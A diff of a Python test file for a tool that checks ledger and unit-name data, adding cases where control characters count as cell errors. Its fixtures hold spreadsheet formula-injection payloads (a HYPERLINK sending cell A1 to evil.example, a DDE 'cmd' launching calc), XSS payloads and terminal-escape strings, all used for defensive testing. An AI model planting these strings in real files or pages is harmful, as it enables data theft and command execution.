@@ -28,11 +28,13 @@ BASES = {  # folder, its conduct problems ledger, its bureau name line
 CHROMIUM = Path("/usr/bin/chromium")
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1:A9)",
-            "＝1+1", "\t=1+1", " =2+2"]
+            "＝1+1", "\t=3+3", " =2+2"]  # "\t=1+1" would be "＝1+1" as a key (CORE §2)
 HTML = ["<script>document.body.dataset.pwned='script'</script>",
         "<img src=x onerror=\"document.body.dataset.pwned='img'\">",
         "\"><svg onload=\"document.body.dataset.pwned='svg'\">", "</td></tr></table><h1>伪造</h1>"]
-CONTROL = ["办公\x1b[31m红色\x1b[0m室", "铃\x07声", "左\u202e右反转\u202c", "隐\u2066藏\u2069", "回车\r换行\n"]
+# ESC and BEL in a ledger cell are cell errors (CORE §5; test_control_characters_are_cell_errors):
+# the names keep bidi controls, invisible characters and line breaks, which a cell may hold
+CONTROL = ["办公\u200b[31m红色\u2060[0m室", "铃\u200d声", "左\u202e右反转\u202c", "隐\u2066藏\u2069", "回车\r换行\n"]
 LONG = "长" * 5000
 
 UNIT_NAMES = {"office": FORMULAS[0], "ygs": HTML[0] + CONTROL[0], "ygs_n": HTML[1] + CONTROL[2] + LONG}
@@ -41,7 +43,7 @@ PROBLEMS = [  # id, description
     (FORMULAS[2], FORMULAS[0]), (FORMULAS[3], HTML[0]), (FORMULAS[4], CONTROL[4] + HTML[1]),
     (FORMULAS[5], CONTROL[2]), (FORMULAS[6], LONG),
 ]
-MARKERS = ("HYPERLINK", "cmd|", "-1+1", "@SUM", "＝1+1", "=1+1", "=2+2")
+MARKERS = ("HYPERLINK", "cmd|", "-1+1", "@SUM", "＝1+1", "=3+3", "=2+2")
 BAD_CHARS = re.compile("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]")
 
 
@@ -89,6 +91,15 @@ def score(root: Path, *args: str) -> tuple[int, bytes, str]:
 def test_check_accepts_the_hostile_bureau(hostile: Path) -> None:
     r = CliRunner().invoke(main, ["check", str(hostile / "bureau.toml")])
     assert r.exit_code == 0, r.stderr
+
+
+def test_control_characters_are_cell_errors(hostile: Path, tmp_path: Path) -> None:
+    root = tmp_path / "b"
+    shutil.copytree(hostile, root)
+    _rewrite(root / "org" / "units.csv", lambda r: [r[0], "办公\x1b[31m红色" if r[0] == "office" else r[1], *r[2:]])
+    r = CliRunner().invoke(main, ["check", str(root / "bureau.toml")])
+    assert r.exit_code == 2
+    assert 'units.csv:3: 单位名称: the cell holds the control character <U+001B>, got "办公<U+001B>[31m红色"' in r.stderr
 
 
 def test_table_is_inert(hostile: Path) -> None:
